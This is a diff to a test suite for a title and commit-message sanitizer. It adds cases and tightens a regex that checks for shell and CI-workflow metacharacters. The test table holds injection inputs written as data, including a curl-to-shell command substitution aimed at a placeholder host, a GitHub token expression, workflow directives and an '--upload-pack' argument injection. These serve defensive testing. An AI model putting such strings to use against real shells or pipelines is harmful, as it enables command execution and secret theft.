@@ -55,7 +55,7 @@ describe('what a shell, a workflow or a template would run', () => {
     ['Fix $(curl https://x.example | sh)', 'Fix (curl https://x.example / sh)'],
     ['Fix ${{ github.token }}', 'Fix ( github.token )'],
     ['Rename `a` to `b`; id', 'Rename a to b, id'],
-    [`Don't say "yes" & 'no'`, 'Don’t say “yes” and ‘no’'],
+    [`Don't say "yes" & 'no'`, 'Donʼt say ʺyesʺ and ʼnoʼ'],
     ['Move a -> b, then c => d', 'Move a → b, then c ⇒ d'],
     ['Document <Link> and a <= b', 'Document ‹Link› and a ≤ b'],
     ['GET /users/{id} costs $5', 'GET /users/(id) costs $ 5'],
@@ -64,8 +64,12 @@ describe('what a shell, a workflow or a template would run', () => {
     ['::add-path::/tmp', 'add-path -:/tmp'],
     ['##vso[task.x]', '#vso[task.x]'],
     ['＄（id）', '（id）'],
+    ['a\u1fefid\u1fef\u037e\uff02x', 'aid,ʺx'],
+    ['https://--upload-pack=x/github.com/a/b/issues/1', 'upload-pack=x/github.com/a/b/issues/1'],
+    ['wip:'.repeat(20_000), expect.stringMatching(/^wip, wip, /)],
+    ['-'.repeat(100_000), ''],
   ])('a title has no %j', (text, safe) => {
-    expect(safeTitle(text)).toBe(safe);
+    expect(safeTitle(text)).toEqual(safe);
   });
 
   it.each([
@@ -92,7 +96,7 @@ describe('what a shell, a workflow or a template would run', () => {
       fc.property(fc.array(commandParts, { maxLength: 30 }), (parts) => {
         const text = parts.join('');
         const line = safeTitle(text);
-        expect(line).not.toMatch(/[`"'\\;&|<>{}＄｛]|\$(?! \d)|^(?:[-=+@]|::)|##/);
+        expect(line).not.toMatch(/[`"'“”‘’\\;&|<>{}＄｛]|\$(?! \d)|^(?:[-=+@]|::)|##/);
         expect(safeTitle(line)).toBe(line);
         const message = safeCommitMessage(text);
         expect(message.replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, ' ')).not.toMatch(codeMark);
